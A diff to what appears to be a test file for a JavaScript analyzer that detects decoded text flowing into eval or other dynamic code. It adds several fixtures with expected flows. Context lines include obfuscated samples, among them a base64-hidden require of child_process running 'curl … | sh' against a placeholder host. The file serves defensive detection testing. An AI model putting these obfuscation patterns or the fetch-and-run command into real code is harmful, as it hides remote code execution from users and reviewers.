@@ -130,6 +130,27 @@ fetch('http://203.0.113.7/x').then((r) => r.text()).then((text) => {
     flows: ['decoded-text 1 -> dynamic-code 1'],
   },
   {
+    name: 'a digit by its code, run as code',
+    code: `eval(String.fromCharCode(49))`,
+    flows: ['decoded-text 1 -> dynamic-code 1'],
+  },
+  {
+    name: 'letters by codes of which only one is known',
+    code: `function text(n) { let made = ''; for (let i = 0; i < 9; i += 1) { let code = 32; code += n; made += String.fromCharCode(code) } return made }
+eval(text(65))`,
+    flows: ['decoded-text 1 -> dynamic-code 2'],
+  },
+  {
+    name: 'a space by its code hides nothing',
+    code: `eval('1' + String.fromCharCode(32) + '+ 1')`,
+    flows: [],
+  },
+  {
+    name: 'an object of the same class, made of decoded text, runs nothing',
+    code: `exports.copy = (event) => new event.constructor(atob(event.type))`,
+    flows: [],
+  },
+  {
     name: 'a module whose name is decoded',
     code: `const cp = require(Buffer.from('${base64('child_process')}', 'base64').toString())
 cp.exec('curl https://c.invalid/i.sh | sh')`,
